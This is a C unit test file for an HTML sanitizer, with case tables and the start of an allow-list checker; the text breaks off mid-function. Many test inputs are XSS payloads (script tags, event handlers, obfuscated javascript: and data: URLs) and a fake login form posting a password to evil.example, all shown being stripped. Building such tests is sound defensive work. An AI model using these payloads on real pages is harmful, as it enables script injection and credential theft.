/* Unit tests for core/sanitize: tables of hand-made cases (input -> exact
 * output), one table per rule of sanitize.h, then properties that must hold
 * for any input: a list of hostile documents and a few thousand generated
 * tag soups all go through check_fragment(), a small scanner that reads the
 * output as a browser's tokenizer would and fails on any element, attribute
 * or URL scheme the allow-list does not name, on unbalanced or misplaced
 * elements, raw markup characters in text and invalid UTF-8.
 *
 * One libxml2 habit shows in the expectations: text before any element
 * gets an implied <p> ("hello" -> "<p>hello</p>").
 */
#include <glib.h>
#include <libxml/parser.h>
#include <string.h>

#include "core/sanitize.h"

typedef struct san_case {
    const char *in;
    size_t len;           /* 0: strlen(in) */
    const char *out;
} san_case_t;

/* An input with NUL bytes in it: the literal and its length. */
#define BIN(s) s, sizeof(s) - 1

static void
run_cases(const san_case_t *cases, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        const san_case_t *tc = &cases[i];
        size_t len = tc->len ? tc->len : strlen(tc->in);
        g_autofree char *got = cor_sanitize_html(tc->in, len);
        g_assert_nonnull(got);
        if (strcmp(got, tc->out) != 0) {
            /* every mismatch of the table is reported, then the test fails */
            g_autofree char *shown = g_strescape(tc->in, NULL);
            g_autofree char *want = g_strescape(tc->out, NULL);
            g_autofree char *have = g_strescape(got, NULL);
            g_test_message("case %zu: '%s'\n  expected '%s'\n  got      '%s'", i, shown, want, have);
            g_test_fail();
        }
    }
}

#define RUN(table) run_cases(table, G_N_ELEMENTS(table))

/* ---- elements dropped with their content --------------------------------- */

static void
test_dropped(void)
{
    static const san_case_t cases[] = {
        { "<p>a<script>alert(1)</script>b</p>", 0, "<p>ab</p>" },
        { "<p>a<SCRIPT type=\"text/javascript\">document.title='pwned'</SCRIPT>b</p>", 0, "<p>ab</p>" },
        { "<p>a<script>if (a < b && c > d) alert('</p>')</script>b</p>", 0, "<p>ab</p>" },
        { "<style>p { color: red }</style><p>x</p>", 0, "<p>x</p>" },
        { "<style>body { background: url(javascript:alert(1)); width: expression(alert(2)) }</style>"
          "<div>x</div>", 0, "<div>x</div>" },
        { "<p>a<iframe src=\"http://evil.example/\">fallback</iframe>b</p>", 0, "<p>ab</p>" },
        { "<p>a<object data=\"x.swf\"><param name=a value=b>alt</object>b</p>", 0, "<p>ab</p>" },
        { "<p>a<embed src=\"x.swf\">b</p>", 0, "<p>ab</p>" },
        { "<p>a<applet code=\"X.class\">no java</applet>b</p>", 0, "<p>ab</p>" },
        { "<p>a<svg onload=\"alert(1)\"><script>alert(2)</script><text>svg text</text></svg>b</p>", 0,
          "<p>ab</p>" },
        { "<p>a<svg><a xlink:href=\"javascript:alert(1)\"><text>click</text></a></svg>b</p>", 0,
          "<p>ab</p>" },
        { "<p>a<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>b</p>", 0, "<p>ab</p>" },
        { "<p>a<noscript><p>enable js</p></noscript>b</p>", 0, "<p>ab</p>" },
        { "<div>a<template><p>t</p></template>b</div>", 0, "<div>ab</div>" },
        { "<div>a<audio src=x.ogg>no audio</audio><video src=x.mp4 poster=y.png>no video</video>"
          "<canvas>no canvas</canvas>b</div>", 0, "<div>ab</div>" },
        { "<frameset><frame src=\"http://evil.example/\"></frameset>", 0, "" },
        { "<div>a<noembed>ne</noembed><noframes>nf</noframes>b</div>", 0, "<div>ab</div>" },
        { "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"><p>x</p>", 0, "<p>x</p>" },
        { "<html><head><meta http-equiv=\"refresh\" content=\"0; url=http://evil.example/\"></head>"
          "<body><p>x</p></body></html>", 0, "<p>x</p>" },
        { "<base href=\"http://evil.example/\"><link rel=stylesheet href=\"http://evil.example/x.css\">"
          "<p>x</p>", 0, "<p>x</p>" },
        { "<div>a<form action=\"http://evil.example/steal\" method=post>Password: "
          "<input type=password name=p><button onclick=\"alert(1)\">Log in</button></form>b</div>", 0,
          "<div>ab</div>" },
        { "<div>a<input value=\"x\"><button>B</button><select><option>o1<optgroup label=g><option>o2"
          "</select><textarea>t</textarea>b</div>", 0, "<div>ab</div>" },
        { "<div>a<!-- a comment -->b</div>", 0, "<div>ab</div>" },
        { "<div>a<!--[if mso]><p>only in Outlook</p><![endif]-->b</div>", 0, "<div>ab</div>" },
        { "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>"
          "</xml><![endif]--><p>x</p>", 0, "<p>x</p>" },
        /* downlevel-revealed: a browser shows the content, not the markers */
        { "<p>a<![if !supportLists]>1. <![endif]>b</p>", 0, "<p>a1. b</p>" },
        { "<![if !mso]><p>x</p><![endif]>", 0, "<p>x</p>" },
        { "<?xml version=\"1.0\"?><?php evil(); ?><p>x</p>", 0, "<p>x</p>" },
        { "<!DOCTYPE html><p>x</p>", 0, "<p>x</p>" },
        { "<div><xml>island</xml>x</div>", 0, "<div>x</div>" },
    };
    RUN(cases);
}

/* ---- attributes ------------------------------------------------------------ */

static void
test_attributes(void)
{
    static const san_case_t cases[] = {
        { "<p onclick=\"alert(1)\" onmouseover='alert(2)' ONLOAD=alert(3)>t</p>", 0, "<p>t</p>" },
        { "<p style=\"color: red\" class=\"c\" id=\"i\" data-x=\"y\" name=n>t</p>", 0, "<p>t</p>" },
        { "<div style=\"width: expression(alert(1))\">x</div>", 0, "<div>x</div>" },
        { "<div style=\"background-image: url(javascript:alert(1))\">x</div>", 0, "<div>x</div>" },
        { "<div style=\"background: url('http://tracker.example/bg.gif')\">x</div>", 0, "<div>x</div>" },
        { "<body background=\"http://tracker.example/bg.gif\" onload=\"alert(1)\"><p>x</p></body>", 0,
          "<p>x</p>" },
        { "<table background=\"http://tracker.example/t.gif\" width=600 border=1 cellpadding=0>"
          "<tr><td bgcolor=red width=10 align=left valign=top nowrap>x</td></tr></table>", 0,
          "<table><tr><td>x</td></tr></table>" },
        /* dir */
        { "<p dir=\"rtl\">x</p>", 0, "<p dir=\"rtl\">x</p>" },
        { "<p dir=\"LTR\">x</p>", 0, "<p dir=\"ltr\">x</p>" },
        { "<span dir=auto>x</span>", 0, "<span dir=\"auto\">x</span>" },
        { "<p dir=\"up\">x</p>", 0, "<p>x</p>" },
        { "<p dir=\"rtl onclick=alert(1)\">x</p>", 0, "<p>x</p>" },
        /* lang */
        { "<p lang=\"en-GB\">x</p>", 0, "<p lang=\"en-GB\">x</p>" },
        { "<p lang=\"zh-Hant-TW\" dir=ltr>x</p>", 0, "<p lang=\"zh-Hant-TW\" dir=\"ltr\">x</p>" },
        { "<p lang=\"\">x</p>", 0, "<p>x</p>" },
        { "<p lang=\"en_GB\">x</p>", 0, "<p>x</p>" },
        { "<p lang=\"en&quot; onclick=&quot;alert(1)\">x</p>", 0, "<p>x</p>" },
        { "<p lang=\"en GB\">x</p>", 0, "<p>x</p>" },
        /* title: a and abbr only */
        { "<abbr title=\"HyperText &amp; &quot;more&quot;\">HTML</abbr>", 0,
          "<abbr title=\"HyperText &amp; &quot;more&quot;\">HTML</abbr>" },
        { "<span title=\"t\">x</span>", 0, "<span>x</span>" },
        { "<abbr title='\"><script>alert(1)</script>'>x</abbr>", 0,
          "<abbr title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</abbr>" },
        /* ol start */
        { "<ol start=\"3\"><li>c</li></ol>", 0, "<ol start=\"3\"><li>c</li></ol>" },
        { "<ol start=\"-1\"><li>c</li></ol>", 0, "<ol><li>c</li></ol>" },
        { "<ol start=\"3;x\" type=a reversed><li>c</li></ol>", 0, "<ol><li>c</li></ol>" },
        { "<ul start=\"3\"><li>c</li></ul>", 0, "<ul><li>c</li></ul>" },
        /* only the first of a repeated attribute */
        { "<p dir=xx dir=rtl>x</p>", 0, "<p>x</p>" },
        { "<abbr title=a title=b>x</abbr>", 0, "<abbr title=\"a\">x</abbr>" },
        /* control characters in a value go */
        { "<abbr title=\"a\x01\x1f" "b\tc\">x</abbr>", 0, "<abbr title=\"ab\tc\">x</abbr>" },
    };
    RUN(cases);
}

/* ---- links ---------------------------------------------------------------- */

#define REL " rel=\"noopener noreferrer nofollow\""

static void
test_links(void)
{
    static const san_case_t cases[] = {
        { "<a href=\"http://example.org/\">x</a>", 0, "<a href=\"http://example.org/\"" REL ">x</a>" },
        { "<a href=\"https://example.org/a?b=1&amp;c=2#d\">x</a>", 0,
          "<a href=\"https://example.org/a?b=1&amp;c=2#d\"" REL ">x</a>" },
        { "<a href=\"HTTPS://EXAMPLE.ORG/\">x</a>", 0, "<a href=\"HTTPS://EXAMPLE.ORG/\"" REL ">x</a>" },
        { "<a href=\"mailto:ann@example.org?subject=hi\">Ann</a>", 0,
          "<a href=\"mailto:ann@example.org?subject=hi\"" REL ">Ann</a>" },
        { "<a href=\"MailTo:ann@example.org\">Ann</a>", 0, "<a href=\"MailTo:ann@example.org\"" REL ">Ann</a>" },
        { "<a href=\"#section-2\">x</a>", 0, "<a href=\"#section-2\"" REL ">x</a>" },
        { "<a href=\"  https://example.org/  \">x</a>", 0, "<a href=\"https://example.org/\"" REL ">x</a>" },
        { "<a href=\"\nhttps://example.org/\n\">x</a>", 0, "<a href=\"https://example.org/\"" REL ">x</a>" },
        /* title kept, everything else (target, rel, onclick, ping...) replaced or gone */
        { "<a href=\"https://example.org/\" title=\"T\" target=\"_blank\" rel=\"opener\" "
          "onclick=\"alert(1)\" ping=\"http://tracker.example/\" download>x</a>", 0,
          "<a href=\"https://example.org/\" title=\"T\"" REL ">x</a>" },
        { "<a href='https://example.org/\"onmouseover=\"alert(1)'>x</a>", 0,
          "<a href=\"https://example.org/&quot;onmouseover=&quot;alert(1)\"" REL ">x</a>" },
        /* hostile schemes lose the href, the text stays */
        { "<p><a href=\"javascript:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"JaVaScRiPt:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"java\tscript:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"java\nscript:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"java&#x09;script:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\" javascript:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"\x01javascript:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"&#106;avascript:alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"&#x6A;&#x61;vascript&#58;alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"javascript&colon;alert(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a></p>", 0,
          "<p>click</p>" },
        { "<p><a href=\"vbscript:msgbox(1)\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"file:///etc/passwd\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"cid:part1@example.org\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"page.html\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"/absolute/path\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"//evil.example/\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"http\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a href=\"\">click</a></p>", 0, "<p>click</p>" },
        { "<p><a>click</a></p>", 0, "<p>click</p>" },
        { "<p><a name=\"top\" id=\"top\">anchor</a></p>", 0, "<p>anchor</p>" },
        { "<p><a href=\"https:javascript:alert(1)\">odd but https</a></p>", 0,
          "<p><a href=\"https:javascript:alert(1)\"" REL ">odd but https</a></p>" },
        /* no link in a link (libxml2 closes an <a> at the next only when it is
         * the current element; otherwise the inner one is unwrapped) */
        { "<a href=\"http://a.example/\">1</b><a href=\"http://b.example/\">2</a></a>", 0,
          "<a href=\"http://a.example/\"" REL ">1</a><a href=\"http://b.example/\"" REL ">2</a>" },
        { "<a href=\"http://a.example/\">1<b><a href=\"http://b.example/\">2</a></b></a>", 0,
          "<a href=\"http://a.example/\"" REL ">1<b>2</b></a>" },
        { "<a href=\"http://a.example/\"><span><a href=\"http://b.example/\">2</a></span></a>", 0,
          "<a href=\"http://a.example/\"" REL "><span>2</span></a>" },
        /* a block inside a link is fine */
        { "<a href=\"http://a.example/\"><div>block</div></a>", 0,
          "<a href=\"http://a.example/\"" REL "><div>block</div></a>" },
        /* an image link keeps the link, the image is text */
        { "<a href=\"https://example.org/\"><img src=\"http://tracker.example/x.gif\" alt=\"Logo\"></a>", 0,
          "<a href=\"https://example.org/\"" REL ">[image: Logo]</a>" },
    };
    RUN(cases);
}

/* ---- images ------------------------------------------------------------------ */

static void
test_images(void)
{
    static const san_case_t cases[] = {
        { "<p><img src=\"http://tracker.example/x.gif\" alt=\"Logo\"></p>", 0, "<p>[image: Logo]</p>" },
        { "<p><img src=\"http://tracker.example/x.gif\" width=1 height=1></p>", 0, "<p>[image]</p>" },
        { "<p><img src=\"x.gif\" alt=\"\"></p>", 0, "<p>[image]</p>" },
        { "<p><img src=\"x.gif\" alt=\"   \"></p>", 0, "<p>[image]</p>" },
        { "<p><img alt=\"  spaced  \"></p>", 0, "<p>[image: spaced]</p>" },
        { "<p><img src=x onerror=\"alert(1)\"></p>", 0, "<p>[image]</p>" },
        { "<p><img src=\"javascript:alert(1)\" alt=\"<script>alert(1)</script>\"></p>", 0,
          "<p>[image: &lt;script&gt;alert(1)&lt;/script&gt;]</p>" },
        { "<p><img alt=\"a &amp; b &quot;c&quot; 'd'\"></p>", 0,
          "<p>[image: a &amp; b &quot;c&quot; &#39;d&#39;]</p>" },
        { "<p><img src=\"cid:logo@example.org\" alt=\"Logo\"><img srcset=\"http://t.example/a.png 2x\"></p>", 0,
          "<p>[image: Logo][image]</p>" },
        { "<p>a<picture><source srcset=\"http://t.example/a.webp\"><img src=\"http://t.example/a.png\" "
          "alt=\"pic\"></picture>b</p>", 0, "<p>a[image: pic]b</p>" },
        { "<p>a<image src=\"http://t.example/a.png\">b</p>", 0, "<p>ab</p>" },
    };
    RUN(cases);
}

/* ---- headings, lists, blocks ---------------------------------------------------- */

static void
test_structure(void)
{
    static const san_case_t cases[] = {
        { "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>", 0,
          "<h4>1</h4><h4>2</h4><h4>3</h4><h5>4</h5><h6>5</h6><h6>6</h6>" },
        { "<H1 class=title style=\"font-size:72px\">Big</H1>", 0, "<h4>Big</h4>" },
        { "<h2 dir=rtl>x</h2>", 0, "<h4 dir=\"rtl\">x</h4>" },
        /* no heading in a heading */
        { "<h1>a<h2>b</h2></h1>", 0, "<h4>ab</h4>" },
        { "<h1>a<span><h2>b</h2></span></h1>", 0, "<h4>a<span>b</span></h4>" },
        { "<p>a<br>b<br/>c</p><hr><p>d</p>", 0, "<p>a<br>b<br>c</p><hr><p>d</p>" },
        { "<blockquote><p>q</p><blockquote>qq</blockquote></blockquote>", 0,
          "<blockquote><p>q</p><blockquote>qq</blockquote></blockquote>" },
        { "<pre>  keep\n    this &lt;x&gt;</pre>", 0, "<pre>  keep\n    this &lt;x&gt;</pre>" },
        { "<p><code>c</code> <tt>t</tt> <kbd>k</kbd> <samp>s</samp> <q>q</q> <cite>c</cite></p>", 0,
          "<p><code>c</code> <tt>t</tt> <kbd>k</kbd> <samp>s</samp> <q>q</q> <cite>c</cite></p>" },
        { "<p><b>b</b><strong>s</strong><i>i</i><em>e</em><u>u</u><s>s</s><strike>k</strike>"
          "<sub>1</sub><sup>2</sup><small>m</small><big>g</big><mark>h</mark><del>d</del><ins>n</ins></p>", 0,
          "<p><b>b</b><strong>s</strong><i>i</i><em>e</em><u>u</u><s>s</s><strike>k</strike>"
          "<sub>1</sub><sup>2</sup><small>m</small><big>g</big><mark>h</mark><del>d</del><ins>n</ins></p>" },
        { "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>", 0,
          "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>" },
        { "<dl><dt>term</dt><dd>def</dd></dl>", 0, "<dl><dt>term</dt><dd>def</dd></dl>" },
        /* list items only directly in their list */
        { "<div><li>stray</li></div>", 0, "<div>stray</div>" },
        { "<ul><li>a<div><li>b</li></div></li></ul>", 0, "<ul><li>a<div>b</div></li></ul>" },
        { "<div><dt>t</dt><dd>d</dd></div>", 0, "<div>td</div>" },
        { "<dl><div><dd>d</dd></div></dl>", 0, "<dl><div>d</div></dl>" },
        /* no p in a p (libxml2 reads Word's <o:p> as <p>) */
        { "<p class=MsoNormal>one<o:p></o:p></p><p class=MsoNormal>two<o:p>&nbsp;</o:p></p>", 0,
          "<p>one</p><p>two\xC2\xA0</p>" },
        { "<p>a<span><p>b</p></span></p>", 0, "<p>a<span>b</span></p>" },
        /* unknown elements are unwrapped */
        { "<font face=Arial color=red size=7>f</font><center>c</center>", 0, "fc" },
        { "<section><article><header>h</header><x-custom foo=bar>x</x-custom></article></section>", 0,
          "hx" },
        { "<div><marquee>m</marquee><blink>b</blink><nobr>n</nobr></div>", 0, "<div>mbn</div>" },
        { "<html lang=en><body bgcolor=red><div>x</div></body></html>", 0, "<div>x</div>" },
        { "<div><span>a</span> <span>b</span></div>", 0, "<div><span>a</span> <span>b</span></div>" },
    };
    RUN(cases);
}

/* ---- tables ------------------------------------------------------------------ */

static void
test_tables(void)
{
    static const san_case_t cases[] = {
        { "<table><caption>C</caption><colgroup><col><col></colgroup><thead><tr><th>h</th></tr></thead>"
          "<tbody><tr><td>b</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>", 0,
          "<table><caption>C</caption><colgroup><col><col></colgroup><thead><tr><th>h</th></tr></thead>"
          "<tbody><tr><td>b</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>" },
        /* colspan/rowspan: digits only, at most 3 */
        { "<table><tr><td colspan=\"2\" rowspan=\"3\">x</td></tr></table>", 0,
          "<table><tr><td colspan=\"2\" rowspan=\"3\">x</td></tr></table>" },
        { "<table><tr><td colspan=\"999\">x</td></tr></table>", 0,
          "<table><tr><td colspan=\"999\">x</td></tr></table>" },
        { "<table><tr><td colspan=\"1000\" rowspan=\"2x\">x</td></tr></table>", 0,
          "<table><tr><td>x</td></tr></table>" },
        { "<table><tr><td colspan=\"-1\" rowspan=\"\">x</td><td colspan=\" 2\">y</td></tr></table>", 0,
          "<table><tr><td>x</td><td>y</td></tr></table>" },
        { "<table><tr><td colspan=\"2&quot; onclick=&quot;alert(1)\">x</td></tr></table>", 0,
          "<table><tr><td>x</td></tr></table>" },
        /* th scope */
        { "<table><tr><th scope=row>a</th><th scope=\"COL\">b</th><th scope=rowgroup>c</th>"
          "<th scope=colgroup>d</th><th scope=all>e</th></tr></table>", 0,
          "<table><tr><th scope=\"row\">a</th><th scope=\"col\">b</th><th scope=\"rowgroup\">c</th>"
          "<th scope=\"colgroup\">d</th><th>e</th></tr></table>" },
        { "<table><tr><td scope=row>a</td></tr></table>", 0, "<table><tr><td>a</td></tr></table>" },
        { "<table><tr><th colspan=2 abbr=x headers=y>a</th></tr></table>", 0,
          "<table><tr><th colspan=\"2\">a</th></tr></table>" },
        /* rows and cells straight in the table (a browser adds tbody/tr) */
        { "<table><td>a<td>b</table>", 0, "<table><td>a</td><td>b</td></table>" },
        /* table parts outside a table are unwrapped */
        { "<div><td>x</td><tr>y</tr><tbody>z</tbody><caption>c</caption><col></div>", 0,
          "<div>xyzc</div>" },
        /* inside table/tbody/tr only table parts; other content is unwrapped */
        { "<table><div>z<table><tr><td>in</td></tr></table></div><tr><td>x</td></tr></table>", 0,
          "<table>z<tr><td>in</td></tr><tr><td>x</td></tr></table>" },
        { "<table><tr><b>bold</b><td>x</td></tr></table>", 0,
          "<table><tr>bold<td>x</td></tr></table>" },
        { "<table><colgroup>text<col><span>s</span></colgroup></table>", 0,
          "<table><colgroup><col></colgroup></table>" },
        /* tables nest inside cells */
        { "<table><tr><td><table><tr><td>inner</td></tr></table></td></tr></table>", 0,
          "<table><tr><td><table><tr><td>inner</td></tr></table></td></tr></table>" },
        /* a cell starts a new paragraph context */
        { "<p>a<table><tr><td><p>cell</p></td></tr></table>", 0,
          "<p>a</p><table><tr><td><p>cell</p></td></tr></table>" },
        { "<table><tr><td>a<td>b<tr><td>c</table>", 0,
          "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>" },
    };
    RUN(cases);
}

/* ---- text, entities, bytes ------------------------------------------------------ */

static void
test_text(void)
{
    static const san_case_t cases[] = {
        { "", 0, "" },
        { "   \n\t  ", 0, "" },
        { "<!-- only a comment -->", 0, "" },
        { "<script>alert(1)</script>", 0, "" },
        { "<html><head><title>Title</title></head><body></body></html>", 0, "" },
        { "hello", 0, "<p>hello</p>" },
        { "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", 0, "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>" },
        { "<p>&amp;amp; &amp;lt;</p>", 0, "<p>&amp;amp; &amp;lt;</p>" },
        { "<p>&quot;&#39;&apos;\"'</p>", 0, "<p>&quot;&#39;&#39;&quot;&#39;</p>" },
        { "<p>a > b & c < d</p>", 0, "<p>a &gt; b &amp; c &lt; d</p>" },
        { "<p>&eacute;&#233;&#xE9;&euro;&#8364;&nbsp;</p>", 0,
          "<p>\xC3\xA9\xC3\xA9\xC3\xA9\xE2\x82\xAC\xE2\x82\xAC\xC2\xA0</p>" },
        /* libxml2 keeps an unknown or unterminated reference as text */
        { "<p>&bogus; &amp</p>", 0, "<p>&amp;bogus; &amp;amp</p>" },
        { "<p>caf\xC3\xA9 \xE6\x97\xA5\xE6\x9C\xAC \xF0\x9F\x98\x80</p>", 0,
          "<p>caf\xC3\xA9 \xE6\x97\xA5\xE6\x9C\xAC \xF0\x9F\x98\x80</p>" },
        /* control characters: tab and newline stay, CR LF and CR become LF */
        { "<pre>a\x01" "b\x1f" "c\td\r\ne\rf\x7fg</pre>", 0, "<pre>abc\td\ne\nfg</pre>" },
        { "<p>&#1;&#0;&#x1F;x</p>", 0, "<p>x</p>" },
        /* NUL bytes go before parsing */
        { BIN("<p>a\0b</p>"), "<p>ab</p>" },
        { BIN("<scr\0ipt>alert(1)</script><p>x</p>"), "<p>x</p>" },
        { BIN("<a href=\"java\0script:alert(1)\">x</a>"), "x" },
        { BIN("<p on\0click=\"alert(1)\">x</p>"), "<p>x</p>" },
        { BIN("\0\0\0"), "" },
        /* invalid UTF-8 becomes U+FFFD, the rest of the text stays UTF-8 */
        { "<p>a\xFF" "b\xC3" "c\xE2\x82</p><p>caf\xC3\xA9</p>", 0,
          "<p>a\xEF\xBF\xBD" "b\xEF\xBF\xBD" "c\xEF\xBF\xBD\xEF\xBF\xBD</p><p>caf\xC3\xA9</p>" },
        { "<p>\xC0\xBC" "script\xC0\xBE</p>", 0,
          "<p>\xEF\xBF\xBD\xEF\xBF\xBDscript\xEF\xBF\xBD\xEF\xBF\xBD</p>" },
        { "<p>\xED\xA0\x80</p>", 0, "<p>\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD</p>" },
        /* a <meta charset> does not change how the input is read */
        { "<meta charset=\"iso-8859-1\"><p>caf\xC3\xA9</p>", 0, "<p>caf\xC3\xA9</p>" },
        /* a whole document: only the body's content */
        { "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
          "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n"
          "<html xmlns=\"http://www.w3.org/1999/xhtml\">\n<head>\n"
          "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n"
          "<title>Newsletter title</title>\n<style type=\"text/css\">p { margin: 0 }</style>\n"
          "<script>document.title = 'pwned'</script>\n</head>\n"
          "<body style=\"margin:0\">\n<h1>News</h1>\n<p>Body <b>text</b>.</p>\n</body>\n</html>\n", 0,
          "<h4>News</h4>\n<p>Body <b>text</b>.</p>" },
    };
    RUN(cases);
}

/* ---- malformed markup -------------------------------------------------------------- */

static void
test_malformed(void)
{
    static const san_case_t cases[] = {
        { "<b><i>x</b>y</i>", 0, "<b><i>x</i></b>y" },
        { "<p>unclosed <b>bold <i>italic", 0, "<p>unclosed <b>bold <i>italic</i></b></p>" },
        { "<div><span>a</div>b</span>", 0, "<div><span>a</span></div>b" },
        { "</p></div></table>x", 0, "<p>x</p>" },
        { "<<<>>>", 0, "<p>&gt;&gt;&gt;</p>" },
        { "<p>a <b", 0, "<p>a <b></b></p>" },
        { "<p title=\"unterminated>x</p>", 0, "<p></p>" },
        { "<script>alert(1)", 0, "" },
        { "<p>a<script>alert(1)</p><p>b", 0, "<p>a</p>" },
        { "<style>p{}", 0, "" },
        { "<!-- unterminated comment <script>alert(1)</script>", 0, "" },
        /* as in a browser, "<script" is a bad attribute, alert(1) text */
        { "<img src=x alt=\"a\" <script>alert(1)</script>", 0, "[image: a]alert(1)" },
        /* as in a browser, <scr<script> is an unknown element */
        { "<scr<script>ipt>alert(1)</script>", 0, "ipt&gt;alert(1)" },
        { "<a href=\"http://x.example/\">a<p>b</a>c", 0,
          "<a href=\"http://x.example/\"" REL ">a<p>b</p></a>c" },
        { "<ul><li>a<li>b</ul>", 0, "<ul><li>a</li><li>b</li></ul>" },
        { "<table><tr><td>a</td></table></tr>x", 0, "<table><tr><td>a</td></tr></table>x" },
        { "<div><div><div>deep", 0, "<div><div><div>deep</div></div></div>" },
    };
    RUN(cases);
}

/* ---- properties ------------------------------------------------------------------- */

static bool
in_list(const char *name, size_t n, const char *const *list)
{
    for (; *list; list++) {
        if (strlen(*list) == n && memcmp(*list, name, n) == 0)
            return true;
    }
    return false;
}

static const char *const written_elements[] = {
    "p", "br", "hr", "div", "span", "blockquote", "pre", "code", "tt", "kbd", "samp", "q", "cite",
    "b", "strong", "i", "em", "u", "s", "strike", "sub", "sup", "small", "big", "mark", "abbr",
    "del", "ins", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption",
    "thead", "tbody", "tfoot", "tr", "th", "td", "colgroup", "col", "a", NULL,
};
static const char *const void_elements[] = { "br", "hr", "col", NULL };

/* Whether attribute `attr` may be on element `el`. */
static bool
attr_allowed(const char *el, const char *attr)
{
    if (strcmp(attr, "dir") == 0 || strcmp(attr, "lang") == 0)
        return true;
    if (strcmp(el, "a") == 0)
        return strcmp(attr, "href") == 0 || strcmp(attr, "title") == 0 || strcmp(attr, "rel") == 0;
    if (strcmp(el, "abbr") == 0)
        return strcmp(attr, "title") == 0;
    if (strcmp(el, "td") == 0 || strcmp(el, "th") == 0) {
        if (strcmp(attr, "colspan") == 0 || strcmp(attr, "rowspan") == 0)
            return true;
        return strcmp(el, "th") == 0 && strcmp(attr, "scope") == 0;
    }
    if (strcmp(el, "ol") == 0)
        return strcmp(attr, "start") == 0;
    return false;
}

/* Where an element may be, by its parent in the output ("" = top). */
static bool
placement_ok(const char *el, const char *parent)
{
    static const char *const table_ctx[] = { "table", "thead", "tbody", "tfoot", "tr", NULL };
    bool parent_table = in_list(parent, strlen(parent), table_ctx);
    if (strcmp(parent, "colgroup") == 0)
        return strcmp(el, "col") == 0;
    if (strcmp(el, "li") == 0)
        return strcmp(parent, "ul") == 0 || strcmp(parent, "ol") == 0;
    if (strcmp(el, "dt") == 0 || strcmp(el, "dd") == 0)
        return strcmp(parent, "dl") == 0;
    if (strcmp(el, "td") == 0 || strcmp(el, "th") == 0)
        return parent_table;
    if (strcmp(el, "tr") == 0)
        return parent_table && strcmp(parent, "tr") != 0;
    if (strcmp(el, "caption") == 0 || strcmp(el, "colgroup") == 0 || strcmp(el, "thead") == 0 ||
        strcmp(el, "tbody") == 0 || strcmp(el, "tfoot") == 0)
        return strcmp(parent, "table") == 0;
    if (strcmp(el, "col") == 0)
        return strcmp(parent, "table") == 0;
    return !parent_table;
}

/* Reads `out` as a browser's tokenizer would; returns what sanitize.h does
 * not allow in it, or NULL.  *where is set to the offset. */
static const char *
fragment_problem(const char *out, size_t *where)
{
    g_autoptr(GPtrArray) stack = g_ptr_array_new_with_free_func(g_free);
    const char *p = out;
    unsigned a_depth = 0, h_depth = 0;

#define FAIL(why) do { \
        *where = (size_t) (p - out); \
        return why; \
    } while (0)

    if (!g_utf8_validate(out, -1, NULL))
        FAIL("invalid UTF-8");
    while (*p) {
        unsigned char c = (unsigned char) *p;
        if (c == '>' || c == '"' || c == '\'')
            FAIL("raw markup character in text");
        if (c < 0x20 && c != '\t' && c != '\n')
            FAIL("control character");
        if (c == '&') {
            const char *semi = strchr(p, ';');
            if (!semi || semi - p > 8)
                FAIL("bare ampersand");
            p = semi + 1;
            continue;
        }
        if (c != '<') {
            p++;
            continue;
        }
        p++;
        bool end_tag = *p == '/';
        if (end_tag)
            p++;
        const char *name = p;
        while (g_ascii_islower(*p) || g_ascii_isdigit(*p))
            p++;
        size_t nlen = (size_t) (p - name);
        if (nlen == 0 || !in_list(name, nlen, written_elements))
            FAIL("element not in the allow-list");
        g_autofree char *el = g_strndup(name, nlen);
        if (end_tag) {
            if (*p != '>')
                FAIL("junk in an end tag");
            p++;
            if (stack->len == 0 || strcmp(stack->pdata[stack->len - 1], el) != 0)
                FAIL("end tag does not match the open element");
            if (strcmp(el, "a") == 0)
                a_depth--;
            if (el[0] == 'h' && g_ascii_isdigit(el[1]))
                h_depth--;
            g_ptr_array_set_size(stack, stack->len - 1);
            continue;
        }
        const char *parent = stack->len ? stack->pdata[stack->len - 1] : "";
        if (!placement_ok(el, parent))
            FAIL("element in a place a browser would move it from");
        if (strcmp(el, "a") == 0 && a_depth++ > 0)
            FAIL("link in a link");
        if (el[0] == 'h' && g_ascii_isdigit(el[1]) && h_depth++ > 0)
            FAIL("heading in a heading");
